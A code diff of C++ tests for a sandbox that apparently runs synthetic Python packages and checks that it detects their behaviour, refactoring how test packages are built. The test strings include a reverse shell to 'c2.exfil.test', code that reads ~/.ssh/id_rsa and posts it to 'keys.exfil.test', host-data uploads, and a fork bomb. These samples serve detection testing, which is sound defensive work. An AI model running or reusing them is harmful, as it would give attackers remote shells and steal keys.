@@ -204,8 +204,7 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
   const std::string init =
       "import subprocess, time\n"
       "subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True)\n";
-  json t = detonate("pypi", behavior_sdist("daemon", {file("setup.py", behavior_setup_py("daemon", "")),
-                                                      file("daemon/__init__.py", init)}));
+  json t = detonate("pypi", behavior_import_sdist("daemon", init));
   ASSERT_TRUE(t.contains("phases"));
   EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
   auto left = events(t, "left-running", "import");
@@ -213,10 +212,7 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
   EXPECT_EQ(left[0].at("count"), 1);
 
   const std::string forever = "import time\nwhile True:\n    time.sleep(1)\n";
-  json u = detonate("pypi",
-                    behavior_sdist("forever", {file("setup.py", behavior_setup_py("forever", "")),
-                                               file("forever/__init__.py", forever)}),
-                    "1500");
+  json u = detonate("pypi", behavior_import_sdist("forever", forever), "1500");
   ASSERT_TRUE(u.contains("phases"));
   EXPECT_EQ(phase_named(u, "import").value("timed_out", false), true);
 }
@@ -230,8 +226,7 @@ TEST_F(BehaviorReal, a_package_that_floods_the_trace_is_cut_at_its_bound_and_say
       "arg = 'x' * 1000\n"
       "for i in range(400):\n"
       "    subprocess.call(['/usr/bin/env'] + [arg] * 64)\n";
-  json t = detonate("pypi", behavior_sdist("flood", {file("setup.py", behavior_setup_py("flood", "")),
-                                                     file("flood/__init__.py", init)}));
+  json t = detonate("pypi", behavior_import_sdist("flood", init));
   ASSERT_TRUE(t.contains("events"));
   bool said = false;
   for (const json& e : t.at("events")) {
@@ -264,8 +259,7 @@ TEST_F(BehaviorReal, a_package_that_writes_and_forks_without_end_is_bounded_and_
       "    except OSError as e:\n"
       "        print('fork stopped after', n, e.strerror)\n"
       "        break\n";
-  json t = detonate("pypi", behavior_sdist("bomb", {file("setup.py", behavior_setup_py("bomb", "")),
-                                                    file("bomb/__init__.py", init)}));
+  json t = detonate("pypi", behavior_import_sdist("bomb", init));
   ASSERT_TRUE(t.contains("phases"));
   const json import = phase_named(t, "import");
   EXPECT_EQ(import.value("timed_out", true), false);
@@ -284,17 +278,13 @@ TEST_F(BehaviorReal, a_package_that_writes_and_forks_without_end_is_bounded_and_
 TEST_F(BehaviorReal, a_shell_fed_through_a_pipe_is_a_build_s_and_one_on_a_connection_a_reverse_shell) {
   BATLEHUB_NEED_BWRAP();
   const std::string piped = "import subprocess\nsubprocess.run(['/bin/sh'], input=b'echo configured\\n')\n";
-  auto build = findings(
-      core::PackageKind::kPypi,
-      behavior_sdist("piped", {file("setup.py", behavior_setup_py("piped", piped)), file("piped/__init__.py", "")}));
+  auto build = findings(core::PackageKind::kPypi, behavior_install_sdist("piped", piped));
   EXPECT_EQ(build.count("behavior-interactive-shell"), 0U);
   const std::string init =
       "import os, socket, subprocess\n"
       "s = socket.create_connection(('c2.exfil.test', 4444))\n"
       "subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
-  auto shell =
-      findings(core::PackageKind::kPypi, behavior_sdist("plainsh", {file("setup.py", behavior_setup_py("plainsh", "")),
-                                                                    file("plainsh/__init__.py", init)}));
+  auto shell = findings(core::PackageKind::kPypi, behavior_import_sdist("plainsh", init));
   EXPECT_EQ(shell["behavior-interactive-shell"], core::Severity::kHigh);
 }
 
@@ -308,9 +298,7 @@ TEST_F(BehaviorReal, a_function_that_sends_the_decoy_key_when_called_is_seen_in_
       "def upload(target):\n"
       "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
       "    urllib.request.urlopen('http://keys.exfil.test/u', data=key.encode(), timeout=5)\n";
-  const std::string archive = behavior_sdist(
-      "onlywhencalled",
-      {file("setup.py", behavior_setup_py("onlywhencalled", "")), file("onlywhencalled/__init__.py", init)});
+  const std::string archive = behavior_import_sdist("onlywhencalled", init);
   json t = detonate("pypi", archive);
   ASSERT_TRUE(t.contains("events"));
   EXPECT_TRUE(events(t, "stream", "import").empty()) << "nothing is sent at import";
@@ -371,8 +359,7 @@ TEST_F(BehaviorReal, a_key_posted_over_https_by_urllib_requests_and_node_is_read
       "method='POST'), timeout=5)\n"
       "requests.post('https://api.exfil.test/i', json={'host': socket.gethostname(), 'home': "
       "os.path.expanduser('~')}, timeout=5)\n";
-  json t = detonate("pypi", behavior_sdist("tlssend", {file("setup.py", behavior_setup_py("tlssend", pre)),
-                                                       file("tlssend/__init__.py", "")}));
+  json t = detonate("pypi", behavior_install_sdist("tlssend", pre));
   ASSERT_TRUE(t.contains("events"));
   std::map<std::string, json> by_host;
   for (const json& e : events(t, "stream", "install")) by_host[e.at("host")] = e;
@@ -413,8 +400,7 @@ TEST_F(BehaviorReal, a_client_that_trusts_only_its_own_roots_refuses_the_handsha
       "server_hostname='pinned.exfil.test').sendall(b'never')\n"
       "except ssl.SSLError as e:\n"
       "    print('refused', e)\n";
-  json t = detonate("pypi", behavior_sdist("pinned", {file("setup.py", behavior_setup_py("pinned", "")),
-                                                      file("pinned/__init__.py", init)}));
+  json t = detonate("pypi", behavior_import_sdist("pinned", init));
   ASSERT_TRUE(t.contains("events"));
   auto streams = events(t, "stream", "import");
   ASSERT_EQ(streams.size(), 1U) << t.dump(1);
